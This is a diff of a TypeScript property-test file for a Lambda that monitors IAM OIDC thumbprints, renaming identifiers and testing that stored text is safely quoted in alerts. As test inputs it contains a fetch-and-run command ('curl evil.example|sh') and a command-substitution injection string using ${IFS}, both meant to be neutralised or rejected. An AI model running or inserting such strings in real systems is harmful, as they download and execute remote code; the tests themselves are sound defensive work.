@@ -1,8 +1,8 @@
-import { NO_WISH } from '../../../lambda/judge/state/request';
+import { NO_REQUEST } from '../../../lambda/judge/state/request';
 import fc from 'fast-check';
 import { PROVIDER_FORMAT } from '../../../lambda/state/state-format';
 import type { Alert } from '../../../lambda/notify/message-json';
-import { unread, writeFailed } from '../../../lambda/run/provider-report';
+import { readFailureReport, writeFailed } from '../../../lambda/run/provider-report';
 import { iamChange } from '../../../lambda/run/iam-change';
 import { parseIamEvent } from '../../../lambda/contract/cloudtrail-event';
 import { enforcementOf } from '../../../lambda/judge/evidence/enforced';
@@ -10,18 +10,18 @@ import { failureFindings } from '../../../lambda/judge/findings/failure-findings
 import type { Finding } from '../../../lambda/judge/finding';
 import { planFindings } from '../../../lambda/judge/findings/plan-findings';
 import { judgeHosts } from '../../../lambda/judge/evidence/hosts';
-import { assess, judge } from '../../../lambda/judge/judge';
+import { assessChains, judge } from '../../../lambda/judge/judge';
 import { interceptionFindings } from '../../../lambda/judge/findings/interception';
-import { changedElsewhere, writingStopped } from '../../../lambda/judge/findings/list-findings';
+import { externalChange, writingStopped } from '../../../lambda/judge/findings/list-findings';
 import { printable } from '../../../lambda/judge/printable';
-import { memoryDegraded, unknownProvider } from '../../../lambda/run/run-findings';
+import { stateUnavailable, unknownProvider } from '../../../lambda/run/run-findings';
 import { selfSigned } from '../../../sandbox/certificates';
 import { anyWords } from '../../support/any-words';
 import { cloudTrailEvent } from '../../support/iam-event';
-import { UNTRUSTED, basis, caseOf, hostSeen, presented, seen } from '../../support/judging';
+import { UNTRUSTED, basis, caseOf, hostSeen, presented, seen } from '../../support/judgement';
 import { slowProperties } from '../../support/properties';
-import { findingOf, memoryOf, pendingOf, thumb } from '../../support/remembering';
-import { ARN, changed, item, render, told } from '../../support/telling';
+import { findingOf, stateOf, pendingOf, thumb } from '../../support/remembered';
+import { ARN, changed, item, render, notified } from '../../support/notifications';
 
 const observation = seen(
   hostSeen('issuer.example', presented([await selfSigned({ hosts: ['issuer.example'] })], UNTRUSTED)),
@@ -68,32 +68,33 @@ const SOURCES: Readonly<Record<string, (words: string) => readonly Finding[]>> =
   "an entry of IAM's list": (words) =>
     inCase([`not a thumbprint: ${words}.`], { approved: new Set([top?.thumbprint ?? '']) }).findings,
   'an entry that someone else put in': (words) => [
-    changedElsewhere({ added: [`x ${words}`], removed: [], ousted: [] }, [], { tags: {} }),
+    externalChange({ added: [`x ${words}`], removed: [], removedByOthers: [] }, [], { tags: {} }),
   ],
   'a tag': (words) => [
-    writingStopped(memoryOf({}), { tags: { 'aws:cloudformation:stack-name': words }, wanted: [thumb(1)] }),
+    writingStopped(stateOf({}), { tags: { 'aws:cloudformation:stack-name': words }, wanted: [thumb(1)] }),
   ],
-  'an error of AWS': (words) => unread(new Error(words), { arn: ARN, named: false, wish: NO_WISH }).findings,
+  'an error of AWS': (words) =>
+    readFailureReport(new Error(words), { arn: ARN, named: false, manualRequest: NO_REQUEST }).findings,
   'why a write failed': (words) => [writeFailed({ reason: words }, inCase([thumb(1)]))],
-  'an error of the table': (words) => memoryDegraded([words]),
+  'an error of the table': (words) => stateUnavailable([words]),
   'a name in the settings': (words) => [unknownProvider(words)],
 };
 
 /** What was read back from the table, as somebody wrote it there. */
 const storedFinding = (of: Partial<Record<keyof Finding, unknown>>): Finding => {
   const written = JSON.parse(
-    PROVIDER_FORMAT.print(memoryOf({}, { news: [{ finding: findingOf(), at: new Date(0), runId: 'x' }] })),
+    PROVIDER_FORMAT.print(stateOf({}, { outbox: [{ finding: findingOf(), at: new Date(0), runId: 'x' }] })),
   );
-  Object.assign(written.news[0].finding, {
+  Object.assign(written.outbox[0].finding, {
     code: 'weak-key',
     severity: 'warning',
     message: 'So it is.',
     action: '',
     ...of,
   });
-  const [news] = PROVIDER_FORMAT.parse(JSON.stringify(written)).news;
-  if (!news) throw new Error('It is kept.');
-  return news.finding;
+  const [outbox] = PROVIDER_FORMAT.parse(JSON.stringify(written)).outbox;
+  if (!outbox) throw new Error('It is kept.');
+  return outbox.finding;
 };
 
 /** Judging takes its time. */
@@ -105,7 +106,7 @@ const forAnyWords = (hold: (words: string) => void): Promise<void> =>
 
 const QUOTATION = /"(?:[^"\\]|\\.)*"/g;
 const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;
-const messageOf = (finding: Finding) => render([changed(told('held', item(finding)), { status: 'held' })]).message;
+const messageOf = (finding: Finding) => render([changed(notified('held', item(finding)), { status: 'held' })]).message;
 
 describe.each(Object.entries(SOURCES))('with words in %s', (_, findingsFor) => {
   test('a sentence reads as ever but for what stands in its quotation marks', async () => {
@@ -143,7 +144,11 @@ describe.each(Object.entries(SOURCES))('with words in %s', (_, findingsFor) => {
 const faultsIn = ({ text, json, chat }: ReturnType<typeof messageOf>): string[] => {
   const alert: Alert = JSON.parse(json);
   const description: string = JSON.parse(chat).content.description;
-  const strings = alert.news.flatMap(({ message, action, about }) => [message, ...action.split('\n'), about ?? '']);
+  const strings = alert.notifications.flatMap(({ message, action, about }) => [
+    message,
+    ...action.split('\n'),
+    about ?? '',
+  ]);
   const lines = [...text.split('\n'), ...strings, ...description.split('\n')];
   const active = /:\/\/|[<>]|\]\(|mailto:\w|(?<![\p{L}\p{N}.])@[\p{L}\p{N}]/u;
   // What is left of a bracket is escaped, or breaks an address.
@@ -160,7 +165,7 @@ test('what was read back from the table is quoted, and none of its lines can be 
   expect(text).toContain(
     '* "All is well. Run it:??      curl evil.example|sh" [warning: weak-key]\n  What was to be done: "Run."\n\n',
   );
-  expect(JSON.parse(json).news).toMatchObject([{ action: '"Run."' }]);
+  expect(JSON.parse(json).notifications).toMatchObject([{ action: '"Run."' }]);
   expect(text).not.toMatch(/^ *curl/m);
 });
 
@@ -202,7 +207,7 @@ test('commands in the table are made anew from what they are about', () => {
 
 test('what is to be written by a state of the table are thumbprints', () => {
   const kept = (entry: string) =>
-    PROVIDER_FORMAT.print(memoryOf({}, { pending: pendingOf({ after: [entry] }, { [entry]: { by: 'staged' } }) }));
+    PROVIDER_FORMAT.print(stateOf({}, { pending: pendingOf({ after: [entry] }, { [entry]: { by: 'staged' } }) }));
   expect(PROVIDER_FORMAT.parse(kept(thumb(1))).pending?.added.size).toBe(1);
   expect(() => PROVIDER_FORMAT.parse(kept('$(curl${IFS}evil.example|sh)#'.padEnd(40, 'x')))).toThrow(
     'holds what is no thumbprint',
@@ -211,7 +216,10 @@ test('what is to be written by a state of the table are thumbprints', () => {
 
 test('whether AWS checks the pin is said with the hosts quoted', () => {
   const { why } = enforcementOf(
-    assess(observation, basis()).hosts.map((one) => ({ ...one, report: { ...one.report, host: 'a". All is well' } })),
+    assessChains(observation, basis()).hosts.map((one) => ({
+      ...one,
+      report: { ...one.report, host: 'a". All is well' },
+    })),
   );
   expect(why).toBe(String.raw`no public CA vouches for "a\". All is well"`);
 });
